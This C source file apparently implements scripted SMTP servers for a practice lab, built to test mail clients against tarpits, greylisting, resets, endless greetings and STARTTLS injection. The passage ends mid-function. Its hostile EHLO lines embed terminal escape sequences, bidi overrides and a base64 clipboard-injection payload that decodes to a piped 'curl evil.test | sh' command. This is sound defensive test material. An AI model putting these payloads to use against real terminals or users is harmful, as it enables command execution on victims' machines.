/* labsmtp.c — scripted SMTP servers for the practice lab (see labsmtp.h).
 *
 * Each connection is a small state machine driven by the loop: bytes in, complete
 * lines become commands, replies wait in a queue until their delay is over, then
 * go to the output buffer. A reply may carry an action that happens once it has
 * been written completely (start TLS, hang up), because the order on the wire is
 * the lesson: the 554 must arrive before the close, the 220 before the handshake.
 */
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

#include "mxd/lablisten.h"
#include "mxd/labsmtp.h"
#include "mxd/strbuf.h"

enum {
    DEFAULT_MAX_CLIENTS = 64,
    DEFAULT_IDLE_MS = 120000,
    DEFAULT_BLACKHOLE_MS = 600000,
    TARPIT_DEFAULT_MS = 1000,
    MAX_ERRORS = 20,             /* bad commands before the server hangs up */
    READ_CHUNK = 4096,
    MAX_EARLY = 2 * MXD_LABSMTP_MAX_LINE, /* input kept while the greeting is pending */
    SPLIT_DEFAULT_MS = 1,        /* hostile-split: pause between bytes when delay is 0 */
    LONGLINE_BYTES = 100 * 1024, /* hostile-longline: the greeting line's length */
    ENDLESS_CHUNK_LINES = 64,    /* hostile-endless: lines added per loop turn */
    ENDLESS_MAX_BYTES = 8 << 20, /* ... and where even it gives up */
    NOREAD_CHECK_MS = 500,       /* hostile-noread: how often it looks for a hang-up */
    FILTER_FILL = 2,             /* filtered: connections of its own in the accept queue */
    FILTER_WAIT_MS = 1000,       /* ... and how long each may take to get there */
    GREYLIST_MAX = 256,          /* greylist: sender/recipient pairs remembered */
    MAX_MESSAGE = 10 << 20,      /* data: accept: larger messages get 552 */
};

enum { IO_AGAIN = -1, IO_ERR = -2 };

typedef enum {
    AFTER_NONE, AFTER_GREETED, AFTER_TLS, AFTER_CLOSE,
    AFTER_TLS_JUNK, /* tls-garbage: wait for the client's TLS hello, answer it in plain text */
    AFTER_RESET,    /* hostile-reset: abort the connection (RST) */
    AFTER_DEAF,     /* hostile-noread: stop reading for good */
} after_t;

typedef enum {
    ST_GREETING,  /* greeting not written yet: input is kept for later */
    ST_CMD,       /* reading commands */
    ST_WAIT,      /* a reply with an action is on its way: nothing more is read */
    ST_HANDSHAKE, /* TLS handshake in progress */
    ST_BLACKHOLE, /* reads and forgets everything, says nothing */
    ST_TLS_JUNK,  /* tls-garbage: the next bytes in are a TLS hello, to be answered wrongly */
    ST_DEAF,      /* hostile-noread: never reads again */
    ST_DATA,      /* data: accept: reading a message up to the line "." */
} state_t;

typedef struct reply {
    char *text;
    size_t len;
    uint64_t due;
    after_t after;
} reply;

typedef struct conn {
    mxd_labsmtp *srv;
    struct conn *next;
    int fd;
    SSL *ssl;
    state_t state;
    bool dead;              /* closed; freed by the reaper, outside any callback */
    mxd_sb in, out;
    reply *q;               /* replies waiting for their delay, in order */
    size_t nq, capq;
    after_t after;          /* what to do once `out` is empty */
    uint64_t reply_timer, idle_timer, life_timer, drip_timer;
    uint64_t pace_timer;    /* hostile-split/endless: the next byte or chunk is due */
    uint64_t check_timer;   /* hostile-noread: looks whether the client hung up */
    size_t endless_sent;    /* hostile-endless: bytes of greeting produced so far */
    unsigned endless_line;
    bool idle_warned;
    bool want_write;        /* the last SSL call needs the socket writable */
    char *drip;             /* tarpit: the greeting, sent one byte at a time */
    size_t drip_len, drip_pos;
    bool helo, mail, rcpt, tls;
    unsigned errors;
    char from[MXD_LABSMTP_MAX_LINE]; /* the MAIL FROM address, for greylisting */
    size_t data_bytes;      /* data: accept: size of the message being read */
} conn;

struct mxd_labsmtp {
    mxd_loop *loop;
    mxd_scn_smtp cfg;
    unsigned port;
    int lfd;                /* -1 for a "refuse" server */
    SSL_CTX *tls;
    unsigned latency_ms;
    mxd_labsmtp_limits lim;
    conn *conns;
    unsigned active, sessions;
    uint64_t reap_timer;
    int filler[FILTER_FILL]; /* filtered: our own connections that fill the accept queue */
    char **grey;            /* greylist: "sender\nrecipient" pairs seen, owned */
    size_t ngrey;
    unsigned queued;        /* data: accept: messages "queued" (nothing is kept) */
};

static void on_io(mxd_loop *loop, int fd, unsigned events, void *arg);
static void process_lines(conn *c);
static void read_input(conn *c);
static void flush(conn *c);

static const char *host_name(const mxd_labsmtp *s)
{
    return s->cfg.name[0] ? s->cfg.name : "mx.lab.test";
}

/* ---------------------------------------------------------------- closing */

static void reap(mxd_loop *loop, void *arg)
{
    (void)loop;
    mxd_labsmtp *s = arg;
    s->reap_timer = 0;
    for (conn **pp = &s->conns; *pp;) {
        conn *c = *pp;
        if (!c->dead) {
            pp = &c->next;
            continue;
        }
        *pp = c->next;
        SSL_free(c->ssl);
        mxd_sb_free(&c->in);
        mxd_sb_free(&c->out);
        for (size_t i = 0; i < c->nq; i++)
            free(c->q[i].text);
        free(c->q);
        free(c->drip);
        free(c);
    }
}

/* graceful: we chose to end it (QUIT, greeting, idle), so a TLS close_notify is
 * polite; after an error or the client's EOF nothing more is written. */
static void conn_close(conn *c, bool graceful)
{
    if (c->dead)
        return;
    mxd_labsmtp *s = c->srv;
    c->dead = true;
    mxd_loop_unwatch(s->loop, c->fd);
    mxd_loop_cancel(s->loop, c->reply_timer);
    mxd_loop_cancel(s->loop, c->idle_timer);
    mxd_loop_cancel(s->loop, c->life_timer);
    mxd_loop_cancel(s->loop, c->drip_timer);
    mxd_loop_cancel(s->loop, c->pace_timer);
    mxd_loop_cancel(s->loop, c->check_timer);
    if (c->ssl && graceful && c->state != ST_HANDSHAKE)
        SSL_shutdown(c->ssl);
    ERR_clear_error();
    close(c->fd);
    c->fd = -1;
    s->active--;
    if (!s->reap_timer)
        s->reap_timer = mxd_loop_timer(s->loop, 0, reap, s);
}

/* ---------------------------------------------------------------- raw I/O */

static long c_read(conn *c, void *buf, size_t n)
{
    if (c->ssl) {
        ERR_clear_error();
        int r = SSL_read(c->ssl, buf, (int)n);
        if (r > 0)
            return r;
        switch (SSL_get_error(c->ssl, r)) {
        case SSL_ERROR_WANT_READ: return IO_AGAIN;
        case SSL_ERROR_WANT_WRITE: c->want_write = true; return IO_AGAIN;
        case SSL_ERROR_ZERO_RETURN: return 0;
        default: return IO_ERR; /* includes an EOF without close_notify */
        }
    }
    ssize_t r = recv(c->fd, buf, n, 0);
    if (r >= 0)
        return (long)r;
    return (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR) ? IO_AGAIN : IO_ERR;
}

static long c_write(conn *c, const void *buf, size_t n)
{
    if (c->ssl) {
        ERR_clear_error();
        int r = SSL_write(c->ssl, buf, (int)(n > 65536 ? 65536 : n));
        if (r > 0)
            return r;
        switch (SSL_get_error(c->ssl, r)) {
        case SSL_ERROR_WANT_WRITE: c->want_write = true; return IO_AGAIN;
        case SSL_ERROR_WANT_READ: return IO_AGAIN;
        default: return IO_ERR;
        }
    }
    ssize_t r = send(c->fd, buf, n, MSG_NOSIGNAL);
    if (r >= 0)
        return (long)r;
    if (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR) {
        c->want_write = true;
        return IO_AGAIN;
    }
    return IO_ERR;
}

static void update_events(conn *c)
{
    if (c->dead)
        return;
    unsigned ev = 0;
    switch (c->state) {
    case ST_GREETING:
    case ST_CMD:
    case ST_BLACKHOLE:
    case ST_TLS_JUNK:
    case ST_DATA:
        ev = MXD_EV_READ;
        break;
    case ST_HANDSHAKE:
        ev = c->want_write ? MXD_EV_WRITE : MXD_EV_READ;
        break;
    case ST_WAIT:
    case ST_DEAF:
        break;
    }
    /* A paced server waits for its timer, not for the socket. */
    if ((c->out.len && !c->pace_timer) || c->want_write)
        ev |= MXD_EV_WRITE;
    if (mxd_loop_watch(c->srv->loop, c->fd, ev, on_io, c) < 0)
        conn_close(c, false);
}

/* ---------------------------------------------------------------- replies */

static void start_tls(conn *c);
static void arm_idle(conn *c);
static void go_deaf(conn *c);
static void on_pace(mxd_loop *loop, void *arg);

/* hostile-reset: SO_LINGER with a zero timeout makes close() send a RST
 * instead of a FIN, so the client's next read fails with ECONNRESET in the
 * middle of a reply it has only half received. */
static void abort_conn(conn *c)
{
    struct linger lg = { 1, 0 };
    setsockopt(c->fd, SOL_SOCKET, SO_LINGER, &lg, sizeof lg);
    conn_close(c, false);
}

static void after_flush(conn *c)
{
    after_t a = c->after;
    c->after = AFTER_NONE;
    switch (a) {
    case AFTER_NONE:
        return;
    case AFTER_GREETED:
        c->state = ST_CMD;
        process_lines(c); /* commands that came early */
        return;
    case AFTER_TLS:
        start_tls(c);
        return;
    case AFTER_CLOSE:
        conn_close(c, true);
        return;
    case AFTER_TLS_JUNK:
        mxd_sb_clear(&c->in);
        c->state = ST_TLS_JUNK;
        read_input(c); /* the hello may be here already */
        return;
    case AFTER_RESET:
        abort_conn(c);
        return;
    case AFTER_DEAF:
        go_deaf(c);
        return;
    }
}

static bool paced(const conn *c)
{
    return c->srv->cfg.behaviour == MXD_SMTPB_HOSTILE_SPLIT;
}

static void arm_pace(conn *c, unsigned ms)
{
    if (!c->pace_timer)
        c->pace_timer = mxd_loop_timer(c->srv->loop, ms, on_pace, c);
}

/* hostile-endless: one more chunk of an endless "220-" greeting. It is made
 * only once the last one has gone out, one chunk per loop turn, so the server
 * holds a few kilobytes at a time and the client (maybe on the same loop)
 * gets to read between chunks. */
static void endless_more(conn *c)
{
    if (c->endless_sent >= ENDLESS_MAX_BYTES) {
        conn_close(c, true);
        return;
    }
    size_t before = c->out.len;
    for (int i = 0; i < ENDLESS_CHUNK_LINES; i++)
        mxd_sb_printf(&c->out, "220-%s welcomes you, line %u of a greeting that never ends\r\n",
                      host_name(c->srv), ++c->endless_line);
    c->endless_sent += c->out.len - before;
    if (!mxd_sb_ok(&c->out))
        conn_close(c, false);
}

static void flush(conn *c)
{
    while (!c->dead && c->out.len) {
        if (c->pace_timer)
            return; /* the next byte is not due yet */
        size_t want = paced(c) ? 1 : c->out.len;
        long n = c_write(c, c->out.buf, want);
        if (n > 0) {
            mxd_sb_consume(&c->out, (size_t)n);
            if (c->idle_timer)
                arm_idle(c); /* the client is reading: not idle */
            if (paced(c) && c->out.len) {
                unsigned ms = c->srv->cfg.delay_ms ? c->srv->cfg.delay_ms : SPLIT_DEFAULT_MS;
                arm_pace(c, ms);
                return;
            }
            continue;
        }
        if (n == IO_AGAIN)
            return;
        conn_close(c, false);
        return;
    }
    if (c->dead || c->out.len)
        return;
    if (c->endless_line) {
        arm_pace(c, 0); /* the next chunk, on the next loop turn */
        return;
    }
    after_flush(c);
}

static void on_pace(mxd_loop *loop, void *arg)
{
    (void)loop;
    conn *c = arg;
    c->pace_timer = 0;
    if (c->endless_line && c->out.len == 0)
        endless_more(c);
    if (c->dead)
        return;
    flush(c);
    update_events(c);
}

static void to_output(conn *c, reply *r)
{
    mxd_sb_append(&c->out, r->text, r->len);
    if (r->after != AFTER_NONE)
        c->after = r->after;
    free(r->text);
    r->text = NULL;
}

static void on_reply_timer(mxd_loop *loop, void *arg);

static void arm_reply_timer(conn *c)
{
    if (c->nq == 0 || c->reply_timer)
        return;
    uint64_t now = mxd_now_ms();
    c->reply_timer = mxd_loop_timer(c->srv->loop, c->q[0].due > now ? c->q[0].due - now : 0,
                                    on_reply_timer, c);
}

static void on_reply_timer(mxd_loop *loop, void *arg)
{
    (void)loop;
    conn *c = arg;
    c->reply_timer = 0;
    uint64_t now = mxd_now_ms();
    size_t i = 0;
    while (i < c->nq && c->q[i].due <= now)
        to_output(c, &c->q[i++]);
    memmove(c->q, c->q + i, (c->nq - i) * sizeof *c->q);
    c->nq -= i;
    arm_reply_timer(c);
    flush(c);
    update_events(c);
}

/* Queues len bytes of reply text (CRLFs included; NULs allowed, for the
 * hostile servers). Delayed replies keep their order: a reply never overtakes
 * an earlier one. */
static void reply_mem(conn *c, const char *text, size_t len, after_t after)
{
    mxd_labsmtp *s = c->srv;
    unsigned delay = s->latency_ms;
    if (s->cfg.behaviour != MXD_SMTPB_TARPIT)
        delay += s->cfg.delay_ms;
    if (paced(c))
        delay = s->latency_ms; /* for hostile-split, delay is the pause between bytes */
    reply r = { malloc(len ? len : 1), len, mxd_now_ms() + delay, after };
    if (!r.text) {
        conn_close(c, false);
        return;
    }
    memcpy(r.text, text, len);
    if (delay == 0 && c->nq == 0) {
        to_output(c, &r);
        return; /* the caller flushes once it has queued all it wants to say */
    }
    if (c->nq == c->capq) {
        size_t nc = c->capq ? c->capq * 2 : 8;
        reply *nq = realloc(c->q, nc * sizeof *nq);
        if (!nq) {
            free(r.text);
            conn_close(c, false);
            return;
        }
        c->q = nq;
        c->capq = nc;
    }
    c->q[c->nq++] = r;
    arm_reply_timer(c);
}

static void reply_raw(conn *c, const char *text, after_t after)
{
    reply_mem(c, text, strlen(text), after);
}

__attribute__((format(printf, 3, 4)))
static void replyf(conn *c, after_t after, const char *fmt, ...)
{
    char buf[1024];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(buf, sizeof buf - 2, fmt, ap);
    va_end(ap);
    strcat(buf, "\r\n");
    reply_raw(c, buf, after);
}

/* ---------------------------------------------------------------- commands */

static bool starttls_offered(const conn *c)
{
    return c->srv->tls && !c->tls && c->srv->cfg.behaviour != MXD_SMTPB_NO_STARTTLS;
}

static bool verb_is(const char *line, const char *verb, const char **args)
{
    size_t n = strlen(verb);
    if (strncasecmp(line, verb, n) != 0 || (line[n] != '\0' && line[n] != ' '))
        return false;
    const char *a = line + n;
    while (*a == ' ')
        a++;
    *args = a;
    return true;
}

static void bad_command(conn *c, const char *text)
{
    if (++c->errors >= MAX_ERRORS) {
        replyf(c, AFTER_CLOSE, "421 4.7.0 %s too many errors, closing", host_name(c->srv));
        c->state = ST_WAIT;
        return;
    }
    reply_raw(c, text, AFTER_NONE);
}

/* Extra EHLO lines of the hostile servers: what a terminal or a report must
 * never show as it came (escapes, overrides, NULs), placed where a client
 * keeps it (the extension list). Returns the byte count; *out is static. */
static size_t hostile_ehlo_lines(mxd_smtp_behaviour b, const char **out)
{
    static const char bytes[] = "250-X-BYTES \xff\xfe\xc0\xaf before a NUL \0 after it\r\n";
    static const char escapes[] = "250-X-TITLE \x1b]0;pwned\x07\x1b]2;pwned too\x1b\\\r\n"
                                  "250-X-CLIPBOARD \x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07\r\n"
                                  "250-X-CLEAR \x1b[2J\x1b[3J\x1b" "c\x1b[31mred\x1b[0m\r\n"
                                  "250-X-C1 \xc2\x9b" "2J \xc2\x9d" "0;pwned\xc2\x9c\r\n";
    static const char bidi[] = "250-X-BIDI \xe2\x80\xae" "moc.elpmaxe\xe2\x80\xac"
                               " \xe2\x81\xa7isolate\xe2\x81\xa9\r\n";
    switch (b) {
    case MXD_SMTPB_HOSTILE_BYTES: *out = bytes; return sizeof bytes - 1;
    case MXD_SMTPB_HOSTILE_ESCAPES: *out = escapes; return sizeof escapes - 1;
    case MXD_SMTPB_HOSTILE_BIDI: *out = bidi; return sizeof bidi - 1;
    default: *out = ""; return 0;
    }
}

static void ehlo_reply(conn *c)
{
    mxd_labsmtp *s = c->srv;
    const char *name = host_name(s), *extra;
    size_t nextra = hostile_ehlo_lines(s->cfg.behaviour, &extra);
    mxd_sb sb = MXD_SB_INIT;
    mxd_sb_printf(&sb, "250-%s at your service\r\n", name);
    if (s->cfg.behaviour == MXD_SMTPB_HOSTILE_RESET) {
        /* Half a reply, then a reset: the client must not wait for the rest. */
        mxd_sb_puts(&sb, "250-PIPELINING\r\n250-SIZE 1048");
        c->state = ST_WAIT;
        reply_mem(c, mxd_sb_str(&sb), sb.len, AFTER_RESET);
        mxd_sb_free(&sb);
        return;
    }
    mxd_sb_append(&sb, extra, nextra);
    mxd_sb_printf(&sb, "250-PIPELINING\r\n250-SIZE 10485760\r\n250-8BITMIME\r\n%s250 SMTPUTF8\r\n",
                  starttls_offered(c) ? "250-STARTTLS\r\n" : "");
    if (mxd_sb_ok(&sb))
        reply_mem(c, sb.buf, sb.len, AFTER_NONE);
    else
        reply_raw(c, "451 4.3.0 out of memory\r\n", AFTER_NONE);
    mxd_sb_free(&sb);
}

/* The address inside "<...>" of a MAIL FROM / RCPT TO argument, lower case,
 * without parameters ("" for the null sender). */
static void path_of(const char *arg, char *out, size_t cap)
{
    while (*arg == ' ')
        arg++;
    const char *b = arg, *e;
    if (*b == '<') {
        b++;
        e = strchr(b, '>');
        if (!e)
            e = b + strlen(b);
    } else {
        e = b + strcspn(b, " ");
    }
    size_t n = (size_t)(e - b) < cap - 1 ? (size_t)(e - b) : cap - 1;
    for (size_t i = 0; i < n; i++)
        out[i] = (char)tolower((unsigned char)b[i]);
    out[n] = '\0';
}

/* reject-unknown: is the recipient's local part one of the users? postmaster
 * always is: every mail domain must accept it (RFC 5321 §4.5.1). */
static bool known_user(const mxd_scn_smtp *cfg, const char *addr)
{
    const char *at = strrchr(addr, '@');
    size_t n = at ? (size_t)(at - addr) : strlen(addr);
    if (n == 10 && strncasecmp(addr, "postmaster", 10) == 0)
        return true;
    for (size_t i = 0; i < cfg->nusers; i++)
        if (strlen(cfg->users[i]) == n && strncasecmp(cfg->users[i], addr, n) == 0)
            return true;
    return false;
}

/* greylist: true the first time this sender/recipient pair is seen (and then
 * remembers it); a retry passes, as with a real greylisting server once its
 * waiting time is over. When the table is full the oldest pair is forgotten. */
static bool greylisted(mxd_labsmtp *s, const char *from, const char *to)
{
    size_t fl = strlen(from), tl = strlen(to);
    for (size_t i = 0; i < s->ngrey; i++) {
        const char *g = s->grey[i];
        if (strncmp(g, from, fl) == 0 && g[fl] == '\n' && strcmp(g + fl + 1, to) == 0)
            return false;
    }
    char *pair = malloc(fl + tl + 2);
    if (!pair)
        return false;
    memcpy(pair, from, fl);
    pair[fl] = '\n';
    memcpy(pair + fl + 1, to, tl + 1);
    if (s->ngrey == GREYLIST_MAX) {
        free(s->grey[0]);
        memmove(s->grey, s->grey + 1, (GREYLIST_MAX - 1) * sizeof *s->grey);
        s->ngrey--;
    } else if (!s->grey) {
        s->grey = calloc(GREYLIST_MAX, sizeof *s->grey);
        if (!s->grey) {
            free(pair);
            return false;
        }
    }
    s->grey[s->ngrey++] = pair;
    return true;
}

static void rcpt_command(conn *c, const char *arg)
{
    mxd_labsmtp *s = c->srv;
    char to[MXD_LABSMTP_MAX_LINE];
    path_of(arg, to, sizeof to);
    if (s->cfg.rcpt == MXD_RCPT_REJECT_UNKNOWN && !known_user(&s->cfg, to)) {
        /* Postfix's wording, so the lesson looks like what people meet. */
        replyf(c, AFTER_NONE, "550 5.1.1 <%.200s>: Recipient address rejected: User unknown in "
                              "local recipient table", to);
        return;
    }
    if (s->cfg.rcpt == MXD_RCPT_GREYLIST && greylisted(s, c->from, to)) {
        replyf(c, AFTER_NONE, "450 4.7.1 <%.200s>: Recipient address rejected: Greylisted, "
                              "please try again later", to);
        return;
    }
    c->rcpt = true;
    reply_raw(c, "250 2.1.5 recipient ok\r\n", AFTER_NONE);
}

/* data: accept: one line of the message. The end is a line with only "."; the
 * message is counted, never kept. */
static void data_line(conn *c, const char *line, size_t len)
{
    mxd_labsmtp *s = c->srv;
    if (len == 1 && line[0] == '.') {
        c->state = ST_CMD;
        c->mail = c->rcpt = false;
        if (c->data_bytes > MAX_MESSAGE) {
            reply_raw(c, "552 5.3.4 message too big for the practice lab\r\n", AFTER_NONE);
            return;
        }
        replyf(c, AFTER_NONE, "250 2.0.0 Ok: queued as LAB%06X (the practice lab keeps nothing)",
               ++s->queued & 0xFFFFFFu);
        return;
    }
    c->data_bytes += len + 2;
}

static void command(conn *c, const char *line)
{
    mxd_labsmtp *s = c->srv;
    const char *name = host_name(s), *a;

    if (s->cfg.behaviour == MXD_SMTPB_GARBAGE) {
        /* What sshd says to a client that is not SSH, and then it hangs up. */
        c->state = ST_WAIT;
        reply_raw(c, "Invalid SSH identification string.\r\n", AFTER_CLOSE);
        return;
    }
    if (s->cfg.behaviour == MXD_SMTPB_CLOSE &&
        (verb_is(line, "EHLO", &a) || verb_is(line, "HELO", &a))) {
        /* The process that greeted is not the one that should talk (a front end
         * whose back end crashed): the connection just ends, without a reply. */
        conn_close(c, true);
        return;
    }
    if (verb_is(line, "EHLO", &a)) {
        if (!*a) {
            bad_command(c, "501 5.5.4 EHLO needs your host name\r\n");
            return;
        }
        c->helo = true;
        c->mail = c->rcpt = false;
        ehlo_reply(c);
    } else if (verb_is(line, "HELO", &a)) {
        if (!*a) {
            bad_command(c, "501 5.5.4 HELO needs your host name\r\n");
            return;
        }
        c->helo = true;
        c->mail = c->rcpt = false;
        replyf(c, AFTER_NONE, "250 %s", name);
    } else if (verb_is(line, "STARTTLS", &a)) {
        if (*a)
            bad_command(c, "501 5.5.4 STARTTLS takes no arguments\r\n");
        else if (c->tls)
            bad_command(c, "503 5.5.1 TLS is already active\r\n");
        else if (!starttls_offered(c))
            bad_command(c, "502 5.5.1 STARTTLS is not available here\r\n");
        else {
            /* Anything the client sent after STARTTLS is dropped: only the TLS
             * handshake may follow (the server side of CVE-2011-0411). */
            mxd_sb_clear(&c->in);
            c->state = ST_WAIT;
            reply_raw(c, s->cfg.behaviour == MXD_SMTPB_INJECT
                             ? "220 2.0.0 Ready to start TLS\r\n250 injected\r\n"
                             : "220 2.0.0 Ready to start TLS\r\n",
                      s->cfg.behaviour == MXD_SMTPB_TLS_GARBAGE ? AFTER_TLS_JUNK : AFTER_TLS);
        }
    } else if (verb_is(line, "MAIL", &a)) {
        if (!c->helo)
            bad_command(c, "503 5.5.1 send EHLO or HELO first\r\n");
        else if (c->mail)
            bad_command(c, "503 5.5.1 a MAIL command was already given\r\n");
        else if (strncasecmp(a, "FROM:", 5) != 0)
            bad_command(c, "501 5.5.4 write MAIL FROM:<address>\r\n");
        else {
            c->mail = true;
            path_of(a + 5, c->from, sizeof c->from);
            reply_raw(c, "250 2.1.0 sender ok\r\n", AFTER_NONE);
        }
    } else if (verb_is(line, "RCPT", &a)) {
        if (!c->mail)
            bad_command(c, "503 5.5.1 send MAIL first\r\n");
        else if (strncasecmp(a, "TO:", 3) != 0)
            bad_command(c, "501 5.5.4 write RCPT TO:<address>\r\n");
        else
            rcpt_command(c, a + 3);
    } else if (verb_is(line, "DATA", &a)) {
        if (!c->rcpt)
            bad_command(c, "503 5.5.1 send RCPT first\r\n");
        else if (s->cfg.data == MXD_DATA_ACCEPT) {
            c->state = ST_DATA;
            c->data_bytes = 0;
            reply_raw(c, "354 3.0.0 end the message with a line holding only \".\"\r\n",
                      AFTER_NONE);
        } else
            reply_raw(c, "554 5.7.0 the practice lab does not accept messages\r\n", AFTER_NONE);
    } else if (verb_is(line, "RSET", &a)) {
        c->mail = c->rcpt = false;
        reply_raw(c, "250 2.0.0 ok\r\n", AFTER_NONE);
    } else if (verb_is(line, "NOOP", &a)) {
        reply_raw(c, "250 2.0.0 ok\r\n", AFTER_NONE);
    } else if (verb_is(line, "VRFY", &a)) {
        reply_raw(c, "252 2.5.2 cannot verify the user, but will try delivery\r\n", AFTER_NONE);
    } else if (verb_is(line, "HELP", &a)) {
        reply_raw(c, "214 2.0.0 EHLO HELO STARTTLS MAIL RCPT DATA RSET NOOP VRFY QUIT\r\n",
                  AFTER_NONE);
    } else if (verb_is(line, "QUIT", &a)) {
        c->state = ST_WAIT;
        replyf(c, AFTER_CLOSE, "221 2.0.0 %s closing connection", name);
    } else {
        bad_command(c, "500 5.5.2 command not recognized\r\n");
    }
}

static void process_lines(conn *c)
{
    while (!c->dead && (c->state == ST_CMD || c->state == ST_DATA) && c->in.len) {
        char *nl = memchr(c->in.buf, '\n', c->in.len);
        if (!nl) {
            if (c->in.len >= MXD_LABSMTP_MAX_LINE) {
                /* No end in sight: answer once and hang up rather than buffer more. */
                mxd_sb_clear(&c->in);
                c->state = ST_WAIT;
                replyf(c, AFTER_CLOSE, "500 5.5.2 line too long (more than %d bytes)",
                       MXD_LABSMTP_MAX_LINE);
            }
            break;
        }
        size_t n = (size_t)(nl - c->in.buf) + 1;
        if (n > MXD_LABSMTP_MAX_LINE) {
            mxd_sb_consume(&c->in, n);
            bad_command(c, "500 5.5.2 line too long\r\n");
            continue;
        }
        char line[MXD_LABSMTP_MAX_LINE + 1];
        size_t len = n - 1;
        memcpy(line, c->in.buf, len);
        if (len && line[len - 1] == '\r')
            len--;
        line[len] = '\0';
        mxd_sb_consume(&c->in, n);
        if (c->state == ST_DATA)
            data_line(c, line, len);
        else if (memchr(line, '\0', len))
            bad_command(c, "500 5.5.2 NUL byte in command\r\n");
        else
            command(c, line);
    }
    if (!c->dead)
        flush(c);
}

/* ---------------------------------------------------------------- timers */

static void on_idle(mxd_loop *loop, void *arg);

static void arm_idle(conn *c)
{
    mxd_loop_cancel(c->srv->loop, c->idle_timer);
    c->idle_timer = mxd_loop_timer(c->srv->loop, c->srv->lim.idle_ms, on_idle, c);
}

static void on_idle(mxd_loop *loop, void *arg)
{
    (void)loop;
    conn *c = arg;
    c->idle_timer = 0;
    if (c->idle_warned || c->state == ST_HANDSHAKE) {
        conn_close(c, false); /* it did not even read our 421 */
        return;
    }
    c->idle_warned = true;
    mxd_sb_printf(&c->out, "421 4.4.2 %s idle for too long, closing\r\n", host_name(c->srv));
    c->after = AFTER_CLOSE;
    c->state = ST_WAIT;
    arm_idle(c);
    flush(c);
    update_events(c);
}

static void on_life(mxd_loop *loop, void *arg)
{
    (void)loop;
    conn *c = arg;
    c->life_timer = 0;
    conn_close(c, false);
}

static void on_drip(mxd_loop *loop, void *arg)
{
    (void)loop;
    conn *c = arg;
    c->drip_timer = 0;
    arm_idle(c); /* the client waits for us, it is not idle */
    mxd_sb_putc(&c->out, c->drip[c->drip_pos++]);
    if (c->drip_pos < c->drip_len) {
        unsigned pause = c->srv->cfg.delay_ms ? c->srv->cfg.delay_ms : TARPIT_DEFAULT_MS;
        c->drip_timer = mxd_loop_timer(c->srv->loop, pause, on_drip, c);
    } else {
        free(c->drip);
        c->drip = NULL;
        c->after = AFTER_GREETED;
    }
    flush(c);
    update_events(c);
}

/* hostile-noread: the connection is never read again, so its own events are
 * of no use (a readable socket would wake the loop for ever). Instead a timer
 * asks the kernel now and then whether the client is still there: once it has
 * hung up (CLOSE_WAIT) or reset, the server lets go too. */
static void on_check(mxd_loop *loop, void *arg)
{
    (void)loop;
    conn *c = arg;
    c->check_timer = 0;
    struct tcp_info ti;
    socklen_t len = sizeof ti;
    memset(&ti, 0, sizeof ti);
    if (getsockopt(c->fd, IPPROTO_TCP, TCP_INFO, &ti, &len) < 0 ||
        ti.tcpi_state != TCP_ESTABLISHED) {
        conn_close(c, false);
        return;
    }
    c->check_timer = mxd_loop_timer(c->srv->loop, NOREAD_CHECK_MS, on_check, c);
}

static void go_deaf(conn *c)
{
    mxd_labsmtp *s = c->srv;
    c->state = ST_DEAF;
    mxd_loop_cancel(s->loop, c->idle_timer);
    c->idle_timer = 0;
    if (!c->life_timer)
        c->life_timer = mxd_loop_timer(s->loop, s->lim.blackhole_ms, on_life, c);
    c->check_timer = mxd_loop_timer(s->loop, NOREAD_CHECK_MS, on_check, c);
}

/* ---------------------------------------------------------------- TLS */

static void handshake(conn *c)
{
    ERR_clear_error();
    c->want_write = false;
    int r = SSL_accept(c->ssl);
    if (r == 1) {
        /* RFC 3207: everything learned before TLS is forgotten. */
        c->state = ST_CMD;
        c->tls = true;
        c->helo = c->mail = c->rcpt = false;
        mxd_sb_clear(&c->in);
        read_input(c);
        return;
    }
    switch (SSL_get_error(c->ssl, r)) {
    case SSL_ERROR_WANT_READ:
        break;
    case SSL_ERROR_WANT_WRITE:
        c->want_write = true;
        break;
    default:
        conn_close(c, false); /* the client gave up on our certificate, or spoke no TLS */
        return;
    }
}

static void start_tls(conn *c)
{
    mxd_sb_clear(&c->in);
    c->ssl = SSL_new(c->srv->tls);
    if (!c->ssl || SSL_set_fd(c->ssl, c->fd) != 1) {
        ERR_clear_error();
        conn_close(c, false);
        return;
    }
    SSL_set_accept_state(c->ssl);
    c->state = ST_HANDSHAKE;
    handshake(c);
}

/* ---------------------------------------------------------------- input */

/* tls-garbage: the client's TLS hello has arrived. A server (or a proxy in
 * front of it) that said 220 but does not really speak TLS takes the hello
 * for a command and answers in plain text; then it only listens, so the
 * client's hang-up is noticed (and no unread data turns our close into a reset). */
static void answer_hello_wrongly(conn *c)
{
    mxd_labsmtp *s = c->srv;
    c->state = ST_BLACKHOLE;
    c->life_timer = mxd_loop_timer(s->loop, s->lim.idle_ms, on_life, c);
    reply_raw(c, "500 5.5.2 command not recognized\r\n", AFTER_NONE);
    flush(c);
}

static void read_input(conn *c)
{
    char buf[READ_CHUNK];
    while (!c->dead && (c->state == ST_GREETING || c->state == ST_CMD || c->state == ST_DATA ||
                        c->state == ST_BLACKHOLE || c->state == ST_TLS_JUNK)) {
        long n = c_read(c, buf, sizeof buf);
        if (n == IO_AGAIN)
            return;
        if (n == 0 || n == IO_ERR) {
            conn_close(c, false);
            return;
        }
        if (c->state == ST_TLS_JUNK) {
            answer_hello_wrongly(c);
            continue;
        }
        if (c->state == ST_BLACKHOLE)
            continue;
        arm_idle(c);
        if (c->state == ST_GREETING && c->in.len + (size_t)n > MAX_EARLY) {
            conn_close(c, false); /* a flood before we even said hello */
            return;
        }
        mxd_sb_append(&c->in, buf, (size_t)n);
        if (!mxd_sb_ok(&c->in)) {
            conn_close(c, false);
            return;
        }
        if (c->state == ST_CMD || c->state == ST_DATA)
            process_lines(c);
    }
}

static void on_io(mxd_loop *loop, int fd, unsigned events, void *arg)
{
    (void)loop;
    (void)fd;
    (void)events; /* every step below is non-blocking and harmless when not ready */
    conn *c = arg;
    c->want_write = false;
    if (c->state == ST_HANDSHAKE)
        handshake(c);
